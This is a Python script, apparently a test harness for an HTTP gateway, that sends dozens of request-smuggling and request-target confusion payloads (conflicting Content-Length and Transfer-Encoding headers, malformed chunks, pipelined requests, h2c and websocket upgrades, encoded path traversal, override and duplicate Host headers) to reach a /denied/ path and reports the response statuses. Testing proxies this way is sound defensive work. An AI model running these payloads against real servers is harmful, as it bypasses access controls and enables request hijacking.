"""Sends every known way to hide a request in another, each over a connection of its own; prints the
statuses of the answers as JSON. With `slow` as the last word it pauses behind each end of a head, longer
than the gate keeps a connection ready between requests. Whoever decides on requests must see to it that `/denied/` is asked for
in no reading of what arrives."""
import json, re, socket, ssl, sys, threading, time

host, port, spoken = sys.argv[1:4]
slow = sys.argv[-1] == "slow"
origin = f"{host}:{port}"


def hidden(name):
    return f"GET /denied/{name} HTTP/1.1\r\nHost: {origin}\r\n\r\n".encode()


def post(name, headers, body, version="1.1"):
    return f"POST /open/{name} HTTP/{version}\r\nHost: {origin}\r\n".encode() + headers + b"\r\n\r\n" + body


def attacks():
    # Two lengths of one body.
    end = b"0\r\n\r\n"
    size = lambda name: len(end + hidden(name))
    codings = {
        "cl-te": b"Transfer-Encoding: chunked", "te-space": b"Transfer-Encoding : chunked",
        "te-tab": b"Transfer-Encoding:\tchunked", "te-x": b"Transfer-Encoding: xchunked",
        "te-two": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "te-lf": b"X: x\nTransfer-Encoding: chunked",
        "te-cr": b"X: x\rTransfer-Encoding: chunked", "te-fold": b"Transfer-Encoding:\r\n chunked",
        "te-fold-name": b"X: x\r\n Transfer-Encoding: chunked", "te-name-fold": b"Transfer-Encoding\r\n : chunked",
        "te-vtab": b"Transfer-Encoding: \x0bchunked", "te-list": b"Transfer-Encoding: identity, chunked",
        "te-last": b"Transfer-Encoding: chunked, identity", "te-quoted": b'Transfer-Encoding: "chunked"',
        "te-case": b"Transfer-Encoding: cHuNkEd", "te-nul": b"Transfer-Encoding\0: chunked", "te-nul-value": b"Transfer-Encoding: chunked\0",
        "te-high": b"Transfer-Encoding: chunked\xff", "te-bare": b"Transfer-Encoding: chunked\r", "te-empty": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
        "te-hop": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    }
    for name, coding in codings.items():
        yield name, post(name, b"Content-Length: %d\r\n" % size(name) + coding, end + hidden(name))
        yield name + "-only", post(name + "-only", coding, end + hidden(name + "-only"))
    name = "te-cl"
    chunk = b"%x\r\n" % len(hidden(name))
    yield name, post(name, b"Content-Length: %d\r\nTransfer-Encoding: chunked" % len(chunk), chunk + hidden(name) + b"\r\n" + end)
    lengths = {
        "cl-two": b"Content-Length: 0\r\nContent-Length: %d", "cl-list": b"Content-Length: 0, %d", "cl-plus": b"Content-Length: +%d",
        "cl-minus": b"Content-Length: -%d", "cl-hex": b"Content-Length: 0x%x", "cl-space": b"Content-Length : %d", "cl-nul": b"Content-Length\0: %d",
        "cl-fold": b"Content-Length:\r\n %d", "cl-lf": b"X: x\nContent-Length: %d", "cl-cr": b"X: x\rContent-Length: %d", "cl-under": b"Content_Length: %d",
        "cl-huge": b"Content-Length: 18446744073709551616%d", "cl-hop": b"Connection: close, Content-Length\r\nContent-Length: %d", "cl-words": b"Content-Length: %d 0",
        "cl-point": b"Content-Length: %d.0",
    }
    for name, length in lengths.items():
        yield name, post(name, length % len(hidden(name)), hidden(name))
    # Chunks that end elsewhere for some.
    chunks = {
        "chunk-ext": lambda it: b"0;a=b\r\n\r\n" + it, "chunk-ext-lf": lambda it: b"2;\nxx\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(it), it),
        "chunk-lf": lambda it: b"0\n\n" + it, "chunk-cr": lambda it: b"0\r\r" + it, "chunk-hex": lambda it: b"0x0\r\n\r\n" + it,
        "chunk-huge": lambda it: b"10000000000000000\r\n\r\n" + it, "chunk-minus": lambda it: b"-1\r\n\r\n" + it,
        "chunk-space": lambda it: b"0 \r\n\r\n" + it, "chunk-spill": lambda it: b"1\r\nAB\r\n0\r\n\r\n" + it,
        "chunk-ext-cr": lambda it: b"2;\rxx\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(it), it),
        "trailer": lambda it: b"0\r\nContent-Length: %d\r\nHost: evil.example\r\nTransfer-Encoding: x\r\n\r\n%b" % (len(it), it),
    }
    for name, body in chunks.items():
        yield name, post(name, b"Transfer-Encoding: chunked", body(hidden(name)))
    yield "te-old", post("te-old", b"Connection: keep-alive\r\nTransfer-Encoding: chunked", end + hidden("te-old"), "1.0")
    # Requests that follow.
    plain = f"\r\nHost: {origin}\r\n\r\n".encode()
    first = lambda name: f"GET /open/{name} HTTP/1.1".encode() + plain
    for name, between in ("pipelined", b""), ("blank", b"\r\n\r\n"), ("blank-lf", b"\n"), ("blank-cr", b"\r"):
        yield name, first(name) + between + hidden(name)
    yield "lf-only", first("lf-only").replace(b"\r", b"") + hidden("lf-only").replace(b"\r", b"")
    yield "old-line", b"GET /denied/old-line\r\n"
    yield "websocket", first("websocket").replace(plain, b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==" + plain) + hidden("websocket")
    yield "h2c", first("h2c").replace(plain, b"\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA" + plain) + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden("h2c")
    # One request of which servers read different targets.
    lines = {
        "dots": "GET /open/../denied/{} HTTP/1.1", "dots-encoded": "GET /open/%2e%2e/denied/{} HTTP/1.1", "dots-half": "GET /open/.%2E/denied/{} HTTP/1.1",
        "dots-twice": "GET /open/%252e%252e/denied/{} HTTP/1.1", "slash-encoded": "GET /open/..%2fdenied/{} HTTP/1.1", "backslash": "GET /open/..\\denied/{} HTTP/1.1",
        "backslash-encoded": "GET /open/..%5cdenied/{} HTTP/1.1", "parameter": "GET /open/..;x/denied/{} HTTP/1.1", "parameter-encoded": "GET /open/..%3bx/denied/{} HTTP/1.1",
        "nul": "GET /open/../denied/{}%00/../../open HTTP/1.1", "overlong": "GET /open/%c0%ae%c0%ae/denied/{} HTTP/1.1", "unicode": "GET /open/%u002e%u002e/denied/{} HTTP/1.1",
        "slashes": "GET /open//../denied/{} HTTP/1.1", "one-dot": "GET /open/./../denied/{} HTTP/1.1", "slashes-first": "GET //denied/{} HTTP/1.1",
        "absolute": "GET http://{h}/denied/{} HTTP/1.1", "absolute-tls": "GET https://{h}/denied/{} HTTP/1.1", "absolute-other": "GET http://evil.example/open/{} HTTP/1.1",
        "absolute-user": "GET http://{h}@evil.example/open/{} HTTP/1.1", "no-slash": "GET denied/{} HTTP/1.1", "two-targets": "GET /open/{} /denied/{} HTTP/1.1",
        "tab": "GET\t/denied/{}\tHTTP/1.1", "two-versions": "GET /open/{} HTTP/1.1 /denied/{} HTTP/1.1", "small": "get /denied/{} HTTP/1.1", "cr-line": "GET /open/{}\r/denied/{} HTTP/1.1",
        "connect": "CONNECT {h} HTTP/1.1", "trace": "TRACE /denied/{} HTTP/1.1", "star": "OPTIONS * HTTP/1.1",
    }
    for name, line in lines.items():
        yield name, line.replace("{}", name).replace("{h}", origin).encode() + plain
    for name, header in ("override", b"X-HTTP-Method-Override: DELETE"), ("original", b"X-Original-URL: /denied/original"), ("rewrite", b"x-rewrite-url: /denied/rewrite"):
        yield name, first(name).replace(plain, b"\r\n" + header + plain)
    for name, header in ("host-two", b"Host: evil.example"), ("host-fold", b"X: x\r\n Host: evil.example"), ("host-space", b"Host : evil.example"), ("nul-value", b"X: a\0b"), ("cr-value", b"X: a\rHost: evil.example"):
        yield name, first(name).replace(plain, b"\r\n" + header + plain)


def send(name, data, answers):
    try:
        stream = socket.create_connection((host, int(port)), timeout=20)
        if spoken == "tls":
            context = ssl.create_default_context()
            if len(sys.argv) > 4 and sys.argv[4] != "slow":
                context.load_verify_locations(sys.argv[4])
            context.set_alpn_protocols(["http/1.1"])
            stream = context.wrap_socket(stream, server_hostname=host)
        stream.settimeout(2)
        for part in re.findall(rb"(?s).*?\r\n\r\n|.+", data) if slow else [data]:
            try:
                stream.sendall(part)
            except OSError:
                # It has been answered, and that was its end.
                break
            time.sleep(0.4 if slow else 0)
        said = b""
        while part := stream.recv(65536):
            said += part
    except TimeoutError:
        pass
    except OSError as error:
        answers[name] = [type(error).__name__]
        return
    answers[name] = re.findall(r"HTTP/1\.[01] (\d+)", said.decode("latin-1"))
    stream.close()


if __name__ == "__main__":
    answers = {}
    threads = [threading.Thread(target=send, args=(*attack, answers)) for attack in attacks()]
    for at in range(0, len(threads), 60):
        for thread in threads[at:at + 60]:
            thread.start()
        for thread in threads[at:at + 60]:
            thread.join()
    print(json.dumps(answers))
